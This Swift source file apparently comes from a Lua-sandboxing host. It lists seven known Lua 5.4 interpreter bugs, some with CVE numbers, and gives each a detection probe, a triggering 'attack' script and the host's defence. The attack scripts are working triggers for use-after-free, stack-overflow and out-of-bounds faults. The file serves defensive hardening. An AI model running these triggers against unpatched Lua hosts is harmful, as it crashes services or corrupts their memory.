/// The known bugs. All are fixed in Lua 5.4.8.
extension LuaBug {
  static let known = [concat, newindex, close, settop, handler, constantEnvironment, codes]

  /// `luaV_concat` keeps using a stack that its metamethod has reallocated.
  private static let concat = LuaBug(
    name: "concat",
    description: "a __concat that makes the stack grow uses memory that is freed",
    harm: .crash,
    probe: """
      local function deep(n) if n > 0 then return (deep(n - 1)) end return "x" end
      local object = setmetatable({}, {__concat = function() return deep(5000) end})
      for _ = 1, 20 do
        if coroutine.wrap(function() return "a" .. object .. "b" end)() ~= "ax" then return false end
      end
      return true
      """,
    attack: """
      local function deep(n) if n > 0 then return (deep(n - 1)) end return "x" end
      local metatable = {__concat = function() return deep(3000) end}
      local function once() return "a" .. setmetatable({}, metatable) .. "b" end
      for _ = 1, 20 do coroutine.wrap(once)() end
      once()
      """,
    defence: "scripts cannot have __concat where the library has this bug"
  )

  /// `luaV_finishset` keeps using a table that the collector has freed.
  private static let newindex = LuaBug(
    name: "newindex",
    description: "a __newindex that only a weak metatable holds is freed while it is written to",
    harm: .crash,
    probe: """
      local metatable = {__newindex = {}}
      local outer = setmetatable({}, metatable)
      setmetatable(metatable, {__mode = "v"})
      collect(true)
      for i = 1, 20 do outer[i] = i end
      collect(false)
      return true
      """,
    attack: """
      local keep = {}
      pcall(function() while true do keep[#keep + 1] = ("y"):rep(100) .. #keep end end)
      for _ = 1, 300 do
        pcall(function()
          local metatable = {__newindex = {}}
          local outer = setmetatable({}, metatable)
          setmetatable(metatable, {__mode = "v"})
          for i = 1, 10 do outer[i] = i end
        end)
        keep[#keep] = nil
      end
      """,
    defence: "scripts have no weak tables"
  )

  /// `coroutine.close` counts no levels of the C stack.
  private static let close = LuaBug(
    name: "close",
    description: "coroutine.close in a __close of a coroutine that is closed overflows the C stack",
    harm: .crash,
    probe: """
      local last = false
      for _ = 1, 50000 do
        local previous = last
        last = coroutine.create(function()
          local x <close> = setmetatable({}, {__close = function()
            if previous then coroutine.close(previous) end
          end})
          coroutine.yield()
        end)
        coroutine.resume(last)
      end
      coroutine.close(last)
      return true
      """,
    attack: """
      local last
      for _ = 1, 5000 do
        local previous = last
        last = coroutine.wrap(function()
          local x <close> = setmetatable({}, {__close = function()
            if previous then pcall(previous) end
          end})
          coroutine.yield()
          error("end")
        end)
        last()
      end
      pcall(last)
      if coroutine.close then error("there is a coroutine.close") end
      """,
    defence:
      "scripts have no coroutine.close, and the host closes one coroutine after the other"
  )

  /// `lua_settop` keeps using a stack that a `__close` has reallocated.
  private static let settop = LuaBug(
    name: "settop",
    description: "a __close that makes the stack grow loses values of the C function that closes",
    harm: .crash,
    probe: """
      local function deep(n) if n > 0 then return (deep(n - 1)) end return "x" end
      for _ = 1, 20 do
        local closed = setmetatable({}, {__close = function() deep(5000) end})
        if not coroutine.wrap(settop)(closed) then return false end
      end
      return true
      """,
    attack: """
      local function deep(n) if n > 0 then return (deep(n - 1)) end return "x" end
      local metatable = {__close = function() deep(3000) end}
      for _ = 1, 20 do
        local a, b, c = coroutine.wrap(function()
          local x <close> = setmetatable({}, metatable)
          for _ in next, {1}, nil, setmetatable({}, metatable) do break end
          return 1, 2, 3
        end)()
        if a ~= 1 or b ~= 2 or c ~= 3 then error("values were lost") end
      end
      """,
    defence: "no C function of Remora has a to-be-closed value"
  )

  /// CVE-2022-33099: an error while an error is handled, at the end of the stack.
  private static let handler = LuaBug(
    name: "handler",
    description: "a stack that overflows in a message handler is written beyond its end",
    harm: .crash,
    probe: """
      local function loop(x, y, z) return 1 + loop(x, y, z) end
      xpcall(loop, loop)
      return true
      """,
    attack: """
      local function loop(x, y, z) return 1 + loop(x, y, z) end
      xpcall(loop, loop)
      local function handler(message) return xpcall(loop, handler) end
      xpcall(loop, handler)
      """,
    defence: "the stack of a coroutine ends before its memory does"
  )

  /// CVE-2022-28805: wrong code for a constant `_ENV`.
  private static let constantEnvironment = LuaBug(
    name: "env",
    description: "a constant _ENV compiles to code that reads out of bounds",
    harm: .crash,
    probe: """
      local f = load("local _ENV <const> = 11; X = 'hi'")
      local ok, message = pcall(f)
      return not ok and message:find("number") ~= nil
      """,
    attack: """
      local function f() local _ENV <const> = 11; X = "hi" end
      if pcall(f) then error("wrong code") end
      """,
    defence: "none: the bug is in the compiler"
  )

  /// `utf8.codes` ignores a stray continuation byte.
  private static let codes = LuaBug(
    name: "codes",
    description: "utf8.codes passes over bytes that belong to no character",
    harm: .answer,
    probe: "return not pcall(function() for _ in utf8.codes(\"a\\x80\") do end end)",
    attack:
      "if pcall(function() for _ in utf8.codes(\"a\\x80\") do end end) then error(\"passed\") end",
    defence: "none: it does no harm"
  )
}
